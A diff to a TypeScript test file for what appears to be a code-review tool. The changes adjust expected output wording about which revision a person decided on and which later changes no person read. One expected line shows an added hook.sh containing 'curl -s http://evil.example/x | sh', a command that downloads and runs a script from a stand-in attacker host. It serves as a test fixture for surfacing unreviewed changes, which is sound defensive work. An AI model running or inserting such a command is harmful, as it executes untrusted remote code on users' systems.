@@ -134,9 +134,9 @@ describe('review', () => {
     );
     expect(show.stdout).toMatch(new RegExp(`\\s${hook!.size} B  ${hook!.sha256}  hook\\.sh\\n`));
     expect(show.stdout).toContain(
-      '  changes since revision 1 (REQUEST_CHANGES), the last one a reviewer decided on:\n',
+      '  changes since revision 1 (REQUEST_CHANGES, decided by rita (person)), the last one a person decided on:\n',
     );
-    expect(show.stdout).toContain('    never reviewed, included here: revision 2 (never confirmed)\n');
+    expect(show.stdout).toContain('    no person read these, included here: revision 2 (never confirmed)\n');
     expect(show.stdout).toContain(
       `    added hook.sh (${hook!.size} B, sha256 ${hook!.sha256})\n      @@ -0,0 +1,1 @@\n      +curl -s http://evil.example/x | sh\n`,
     );
